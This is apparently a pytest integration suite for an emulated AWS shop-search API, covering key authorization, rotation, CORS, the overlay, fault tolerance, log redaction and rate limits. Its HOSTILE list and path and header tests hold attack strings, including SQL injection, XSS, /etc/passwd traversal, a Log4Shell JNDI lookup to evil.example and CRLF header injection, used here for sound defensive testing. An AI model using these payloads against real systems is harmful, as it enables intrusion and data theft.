"""The deployed service as a shop meets it: the compiled stack in an emulated account, called through its own routes.

osls deploys the stack, the keys are made by the command for it, and the gateway (infra/gateway.py) takes routes,
authorizer, limits and environment from the template (infra/deployed.py), so that what is wired wrongly fails here. moto
stands for AWS and asks nobody for permission: what a role allows is not proved here.
"""

import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import boto3
import pytest
from shop import Service, make_keys, opened, until
from world_aws import overlay_table

from aisle.operations import OPERATIONS
from infra.compiled import Api
from infra.emulator import FunctionFailed

pytestmark = pytest.mark.slow

TABLE = "aisle-dev-overlay"
HOSTILE = [
    "",
    " ",
    "\x00",
    "\u202e\u0000\ud7ff",
    "'; DROP TABLE products; --",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%00%ff%",
    "红" * 300,
    "😀" * 100,
    "a\r\nset-cookie: x=1",
    "\\" * 50,
    '"' * 50,
    "-" * 900,
]


@pytest.fixture(scope="module")
def service(tiny_bundle: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    with opened(tiny_bundle, tmp_path_factory.mktemp("log") / "functions.log") as made:
        made.call("GET", "/v1/health")  # the cold start
        yield made


@pytest.fixture
def api(service: Service) -> Api:
    return service.api


# Routes and keys


def test_every_operation_is_routed_to_its_function_behind_its_key(api: Api) -> None:
    own = {f"{o.method} {o.path}": (f"aisle-dev-{o.function}", o.key != "none") for o in OPERATIONS}
    documents = {"GET /openapi.json": ("aisle-dev-search", False), "GET /docs": ("aisle-dev-search", False)}
    assert {route.key: (route.function, route.authorizer is not None) for route in api.routes} == own | documents
    assert {route.authorizer for route in api.routes} - {None} == {
        next(r.authorizer for r in api.routes if r.authorizer)
    }


@pytest.mark.parametrize("path", ["/v1/health", "/openapi.json", "/docs"])
def test_what_is_open_needs_no_key(service: Service, path: str) -> None:
    assert service.call("GET", path).status == 200


@pytest.mark.parametrize("route", [f"{o.method} {o.path}" for o in OPERATIONS if o.key != "none"])
def test_without_a_key_and_with_a_wrong_one_nothing_else_answers(service: Service, route: str) -> None:
    method, path = route.replace("{id}", "x").split()
    body: Any = {} if method in ("POST", "PUT") else None
    assert service.call(method, path, body=body).status == 401
    for wrong in ("pk_" + "A" * 43, "sk_" + "A" * 43, "x", service.keys["publishable"][:-1]):
        assert (service.call(method, path, wrong, body).status, wrong) == (403, wrong)


def test_a_publishable_key_searches_and_does_not_write(service: Service) -> None:
    assert service.call("GET", "/v1/search?q=shoes", "publishable").status == 200
    assert service.call("PUT", "/v1/overlay", "publishable", {"changes": []}).status == 403
    assert service.call("GET", "/v1/search?q=shoes", "publishable").status == 200


def test_a_secret_key_opens_both(service: Service) -> None:
    assert service.call("GET", "/v1/search?q=shoes", "secret").status == 200
    assert service.put({"product_id": "nobody's", "stock": 1}).status == 200


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("/v1/products/..%2f..%2fv1%2foverlay", {404}),
        ("/v1/products/%2e%2e", {404}),
        ("/v1//search", {404}),
        ("/v1/search/", {404}),
        ("/V1/search", {404}),
        ("/dev/v1/search", {404}),
        ("/v1/overlay", {403, 404}),
        ("/v1%2foverlay", {404}),
        ("/v1/health/../overlay", {404}),
        ("/2015-03-31/functions/function/invocations", {404}),
    ],
)
def test_path_tricks_reach_nothing_that_writes(service: Service, path: str, status: set[int]) -> None:
    answers = {service.call(method, path, "publishable").status for method in ("GET", "PUT", "POST", "DELETE")}
    assert answers <= status


def test_header_tricks_open_nothing(service: Service) -> None:
    good, secret = service.keys["publishable"], service.keys["secret"]
    for value in (
        f"Bearer {good}, Bearer {secret}",
        f"Basic {secret}",
        secret,
        f"Bearer  x {secret}",
        "Bearer " + "a" * 9000,
    ):
        assert service.call("PUT", "/v1/overlay", body={}, Authorization=value).status == 403
    assert service.call("PUT", "/v1/overlay", body={}, X_Authorization=f"Bearer {secret}").status == 401
    assert service.call("PUT", f"/v1/overlay?authorization=Bearer%20{secret}", body={}).status == 401
    assert service.call("PUT", "/v1/overlay", body={}, Cookie=f"authorization=Bearer {secret}").status == 401
    assert service.call("PUT", "/v1/overlay", body={}, Authorization="a" * 11_000).status == 431


def test_nobody_can_have_a_no_kept_for_everybody_with_the_same_key(service: Service) -> None:
    """A publishable key is public: what else its holders send must not decide."""
    service.ahead_s += 301  # nothing is kept any more
    hostile = {"x_shopper_token": "GET /v1/search", "x_forwarded_for": "1", "Cookie": "a=" + "b" * 500}
    assert service.call("GET", "/v1/search?q=%00", "publishable", **hostile).status < 500
    assert service.call("GET", "/v1/search?q=shoes", "publishable").status == 200


def test_keys_rotate_without_a_moment_in_which_none_opens(service: Service) -> None:
    old = service.keys["secret"]
    (new,) = make_keys("--rotate", "secret")
    time.sleep(1.1)  # the authorizer's own cache
    change = {"changes": [{"product_id": "nobody's", "stock": 1}]}
    assert [service.call("PUT", "/v1/overlay", key, change).status for key in (old, new["key"])] == [200, 200]
    make_keys("--retire", "secret")
    time.sleep(1.1)
    assert [service.call("PUT", "/v1/overlay", key, change).status for key in (old, new["key"])] == [200, 200]
    service.ahead_s += 301
    assert [service.call("PUT", "/v1/overlay", key, change).status for key in (old, new["key"])] == [403, 200]
    service.keys["secret"] = new["key"]


def test_while_the_keys_cannot_be_read_nobody_is_let_in(service: Service) -> None:
    faults: tuple[Any, ...] = ("throttled", "silent")
    for fault in faults:
        service.ahead_s += 301
        time.sleep(1.1)
        with service.faults.having("AmazonSSM", fault):
            assert service.call("GET", "/v1/search?q=shoes", "publishable").status == 500
            assert service.call("GET", "/v1/health").status == 200
        assert service.call("GET", "/v1/search?q=shoes", "publishable").status == 200


# Browsers


def test_a_page_may_ask_before_it_calls(service: Service) -> None:
    asks = {"Origin": "https://shop.example", "Access_Control_Request_Method": "POST"}
    answer = service.call("OPTIONS", "/v1/search", **asks, Access_Control_Request_Headers="authorization,content-type")
    allowed = {name: value for name, value in answer.headers.items() if name.startswith("access-control-")}
    assert (answer.status, allowed["access-control-allow-origin"]) == (204, "*")
    assert {"authorization", "content-type", "x-shopper-token"} <= {*allowed["access-control-allow-headers"].split(",")}
    assert {"GET", "POST", "PUT", "DELETE"} <= {*allowed["access-control-allow-methods"].split(",")}


def test_a_page_may_read_the_answer_and_its_refusal(service: Service) -> None:
    for key, status in (("publishable", 200), ("", 401)):
        answer = service.call("GET", "/v1/suggest?q=s", key, Origin="https://shop.example")
        assert (answer.status, answer.headers["access-control-allow-origin"]) == (status, "*")


# The overlay


def test_a_change_of_price_and_stock_is_seen_and_taken_back(service: Service) -> None:
    product = next(p for p in service.products if p.price)
    before = service.hit(product)
    assert before is not None
    assert service.put({"product_id": product.product_id, "price": 123.45, "stock": 0}).json["changed"] == 1
    until(lambda: (service.hit(product) or {}).get("price") == 123.45)
    changed = service.hit(product)
    assert changed is not None
    assert (changed["price"], changed["in_stock"]) == (123.45, False)
    service.put({"product_id": product.product_id, "forget": True})
    until(lambda: (service.hit(product) or {}).get("price") == before["price"])


def test_a_product_is_hidden_and_shown_again(service: Service) -> None:
    product = service.products[1]
    path = "/v1/products/" + quote(product.product_id, safe="")
    service.put({"product_id": product.product_id, "hidden": True})
    until(lambda: service.hit(product) is None)
    assert service.call("GET", path, "publishable").status == 404
    service.put({"product_id": product.product_id, "hidden": False})
    until(lambda: service.hit(product) is not None)
    assert service.call("GET", path, "publishable").status == 200


def test_a_fresh_product_is_searched_beside_the_bundle(service: Service) -> None:
    row: dict[str, Any] = {"product_id": "fresh-1", "title": "Zzyx quantum teapot", "price": 9.0}
    assert service.put(products=[row]).status == 200
    until(lambda: "fresh-1" in [hit["product_id"] for hit in service.search(row["title"])["hits"]])
    service.put({"product_id": "fresh-1", "forget": True})
    until(lambda: "fresh-1" not in [hit["product_id"] for hit in service.search(row["title"])["hits"]])


@pytest.mark.parametrize("fault", ["throttled", "silent", "slow"])
def test_search_answers_in_time_whatever_the_table_does_and_says_so(service: Service, fault: Any) -> None:
    title = service.products[0].title
    with service.faults.having("DynamoDB", fault):
        until(lambda: service.search(title)["degraded"] == ["overlay"])
        for _ in range(3):
            begun = time.monotonic()
            answer = service.search(title)
            assert time.monotonic() - begun < 2.0
            assert (answer["degraded"], len(answer["hits"]) > 0) == (["overlay"], True)
            time.sleep(0.8)
    until(lambda: service.search(title)["degraded"] == [])


def test_a_write_says_that_it_was_not_kept(service: Service) -> None:
    with service.faults.having("DynamoDB", "throttled"):
        answer = service.put({"product_id": "nobody's", "stock": 1})
    assert (answer.status, answer.json["title"]) == (503, "Service Unavailable")
    assert service.put({"product_id": "nobody's", "stock": 1}).status == 200


def test_search_answers_without_a_table(service: Service) -> None:
    dynamodb, title = boto3.client("dynamodb"), service.products[0].title
    dynamodb.delete_table(TableName=TABLE)
    try:
        until(lambda: service.search(title)["degraded"] == ["overlay"])
        assert service.search(title)["hits"]
        assert service.put({"product_id": "nobody's", "stock": 1}).status == 503
    finally:
        overlay_table(TABLE)
    until(lambda: service.search(title)["degraded"] == [])


# What is written down


def test_every_answer_has_a_request_id_that_the_logs_know(service: Service) -> None:
    for path, status in (("/v1/search?q=shoes", 200), ("/v1/products/none", 404), ("/v1/search?k=0", 400)):
        answer = service.call("GET", path, "publishable")
        assert answer.status == status
        assert answer.headers["apigw-requestid"] in service.gateway.access_log[-1]
        assert answer.headers["x-request-id"] in service.logged()
        if status != 200:
            assert answer.json["request_id"] == answer.headers["x-request-id"]


def test_no_key_is_ever_written_down(service: Service) -> None:
    service.ahead_s += 301
    wrong = "sk_" + uuid.uuid4().hex + "A" * 11
    secrets = [*service.keys.values(), wrong]
    for key in secrets:
        for path in (
            f"/v1/search?q={key}",
            f"/v1/search?authorization=Bearer%20{key}",
            f"/v1/products/{key}",
            f"/{key}",
        ):
            service.call("GET", path, key)
            service.call("GET", path)
        service.call("PUT", "/v1/overlay", key, {"changes": [{"product_id": key, "stock": "x"}], key: key})
        service.call("POST", "/v1/search", key, key.encode())
    logged = service.logged()
    assert len(logged) > 1000
    assert [key for key in secrets if key in logged or key[4:] in logged] == []


def test_what_shoppers_type_is_not_written_down(service: Service) -> None:
    typed = f"zq{uuid.uuid4().hex}"
    service.search(typed)
    service.call("GET", f"/v1/search?q={typed}&k=0", "publishable")
    service.call("GET", f"/v1/suggest?q={typed}", "publishable")
    service.call("POST", "/v1/rerank", "publishable", {"query": typed, "documents": [typed]})
    service.call("POST", "/v1/search", "publishable", {"query": typed, typed: typed})
    with service.faults.having("DynamoDB", "throttled"):
        time.sleep(2.1)
        assert service.search(typed)["degraded"] == ["overlay"]
    assert typed not in service.logged()


# What a shop or an attacker sends


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_texts_are_answered_like_any_other(service: Service, text: str) -> None:
    encoded = quote(text, safe="")
    answers = [
        service.call("GET", f"/v1/search?q={encoded}&lang={encoded[:30]}&filter={encoded}", "publishable"),
        service.call("GET", f"/v1/suggest?q={encoded}", "publishable"),
        service.call("GET", f"/v1/products/{encoded or '%20'}", "publishable"),
        service.call("POST", "/v1/search", "publishable", {"query": text, "filters": {"brand": [text]}}),
        service.call("POST", "/v1/rerank", "publishable", {"query": text, "documents": [text, text]}),
        service.put({"product_id": text, "hidden": True}),
        service.put({"product_id": "x", "price": text}),
    ]
    if 0 < len(text) <= 500:
        assert service.put({"product_id": text, "forget": True}).status == 200
    assert [answer.status for answer in answers if answer.status >= 500] == []
    assert all("set-cookie" not in answer.headers for answer in answers)


@pytest.mark.parametrize(
    ("body", "kind", "status"),
    [
        (b"", "application/json", 400),
        (b"{", "application/json", 400),
        (b"\xff\xfe", "application/json", 400),
        (b"[" * 100_000, "application/json", 400),
        (b'{"query": "a", "query": "b", "k": 1e999}', "application/json", 400),
        (b'{"aisle": "replay"}', "application/json", 400),
        (b"query=shoes", "application/x-www-form-urlencoded", 415),
        (b'{"query": "shoes"}', "text/plain", 415),
        (b'{"query": "' + b"a" * 1_100_000 + b'"}', "application/json", 413),
        (b" " * 10_000_001, "application/json", 413),
    ],
    ids=range(10),
)
def test_bodies_that_are_none_are_refused(service: Service, body: bytes, kind: str, status: int) -> None:
    assert service.call("POST", "/v1/search", "publishable", body, content_type=kind).status == status
    assert service.call("PUT", "/v1/overlay", "secret", body, content_type=kind).status == status


@pytest.mark.parametrize("name", ["search", "recommend", "events", "profile", "overlay", "authorizer"])
def test_events_of_another_kind_let_nobody_in_and_break_nothing(service: Service, name: str) -> None:
    events: list[Any] = [{}, [], None, 7, "x", {"version": "2.0"}, {"Records": [{"s3": {}}]}, {"routeKey": 1}]
    events += [{"httpMethod": "PUT", "path": "/v1/overlay"}, {"version": "2.0", "requestContext": None}]
    for event in events:
        try:
            answer = service.invoke(f"aisle-dev-{name}", event)
        except FunctionFailed:
            continue
        assert answer.get("isAuthorized", False) is False
        assert answer.get("statusCode", 400) >= 400
    until(lambda: service.search("shoes")["degraded"] == [])  # one that was started anew may find the table slow


def test_a_route_that_is_called_too_often_says_so_and_recovers(service: Service) -> None:
    burst = next(route.burst for route in service.api.routes if route.key == "PUT /v1/overlay")
    service.ahead_s, service.apart_s = service.ahead_s + 60, 0.0
    statuses = [service.call("PUT", "/v1/overlay").status for _ in range(burst + 20)]
    service.apart_s = 0.25
    assert (statuses[:burst], 429 in statuses[burst:]) == ([401] * burst, True)
    assert service.call("GET", "/v1/suggest?q=s", "publishable").status == 200
    service.ahead_s += 60
    assert service.call("PUT", "/v1/overlay").status == 401
